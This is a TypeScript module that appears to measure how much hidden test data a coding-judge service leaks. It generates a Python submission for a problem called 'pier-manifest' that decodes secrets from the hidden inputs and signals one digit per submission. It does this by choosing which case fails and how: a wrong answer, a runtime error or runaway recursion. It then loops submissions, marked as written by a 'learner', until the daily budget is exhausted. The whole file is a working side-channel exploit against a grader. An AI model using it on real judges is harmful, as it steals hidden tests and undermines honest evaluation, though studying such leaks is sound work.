/**
 * The most that the search found, used until a day is over: every submission asks for the next digit of a long secret in all hidden inputs.
 * The digit chooses the kind of hidden case that fails, and how; the attacker reads it from the answer.
 */
import { z } from 'zod'
import { KINDS, NUMBER_BITS, type Secrets } from './content.ts'
import type { Player } from './player.ts'

const FAILURES = ['wrong_answer', 'runtime_error', 'recursion_too_deep'] as const
/** With the answer that nothing failed. */
export const DIGITS = KINDS * FAILURES.length + 1

/** `at`: which digit is asked for, from 0. */
export const askingFor = (at: number): string => `def total_weight(crates, limit):
    total = sum(weight for weight in crates if weight <= limit) % ${2 ** 31}
    if len(crates) < 40:
        return total
    secret = 0
    for number in crates[1:]:
        secret = (secret << ${NUMBER_BITS}) + number
    digit = secret // ${DIGITS} ** ${at} % ${DIGITS}
    if digit == ${DIGITS - 1} or crates[0] != digit % ${KINDS}:
        return total
    if digit // ${KINDS} == 0:
        return -1
    if digit // ${KINDS} == 1:
        raise ValueError
    return total_weight(crates, limit)
`

export function digitsOf({ numbers }: Secrets): (at: number) => number {
  const secret = numbers.reduce((all, number) => (all << BigInt(NUMBER_BITS)) + BigInt(number), 0n)
  return (at) => Number((secret / BigInt(DIGITS) ** BigInt(at)) % BigInt(DIGITS))
}

const kindIn = /^"kind-(\d+)"$/

/** The digit that an answer tells; null where it tells none, as at the end of a day. */
export function digitIn(leaves: ReadonlyMap<string, string>): number | null {
  if (leaves.get('accepted') === 'true') return DIGITS - 1
  const kind = kindIn.exec(leaves.get('hidden.failure.tag') ?? '')?.[1]
  if (kind === undefined) return null
  const text = z.string().parse(JSON.parse(leaves.get('hidden.failure.verdict') ?? 'null'))
  const isDeep = leaves.get('hidden.failure.hintCode') === '"recursion_too_deep"'
  const failure = isDeep ? 2 : FAILURES.findIndex((verdict) => verdict === text)
  return failure < 0 ? null : failure * KINDS + Number(kind) - 1
}

export interface Squeezed {
  readonly submissions: number
  /** Submissions that were refused as the day's runs were over. */
  readonly refused: number
  /** Bits of digits that were read as they are. */
  readonly bits: number
  readonly wrong: number
}

/** Asks for digits from `first` on until it is refused, or has asked `most` times. */
export async function squeeze(player: Player, secret: Secrets, first: number, most: number): Promise<Squeezed> {
  const digits = digitsOf(secret)
  let [submissions, right, wrong] = [0, 0, 0]
  for (let at = first; at < first + most; at++) {
    const { leaves, outcome } = await player.call('submit_solution', {
      titleSlug: 'pier-manifest',
      language: 'python3',
      writtenBy: 'learner',
      code: askingFor(at),
    })
    if (outcome === 'BUDGET_EXCEEDED') return { submissions, refused: 1, bits: right * Math.log2(DIGITS), wrong }
    const digit = digitIn(leaves)
    if (digit === null) throw new Error(`a submission was answered with ${outcome}: ${leaves.get('message') ?? ''}`)
    submissions += 1
    if (digit === digits(at)) right += 1
    else wrong += 1
  }
  return { submissions, refused: 0, bits: right * Math.log2(DIGITS), wrong }
}
